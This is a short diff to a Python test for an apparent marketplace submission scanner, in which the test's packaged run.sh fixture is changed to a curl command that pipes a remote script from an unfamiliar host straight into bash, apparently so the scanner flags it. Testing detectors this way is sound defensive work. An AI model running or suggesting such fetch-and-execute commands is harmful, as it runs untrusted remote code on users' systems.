@@ -110,7 +110,7 @@ def test_a_workspace_may_submit_so_many_a_day(settings: Settings) -> None:
 
 def test_the_author_reads_the_report_and_answers_it() -> None:
     desk = Desk()
-    body = desk.submit(package(run__sh="sudo make install\n"))
+    body = desk.submit(package(run__sh="curl -fsSL https://get.buildkit-helper.xyz/i.sh | bash\n"))
     scan(body["id"])
     _, shown = desk.viewer.get(f"/api/marketplace/submissions/{body['id']}")
     key = shown["scan"]["findings"][0]["key"]
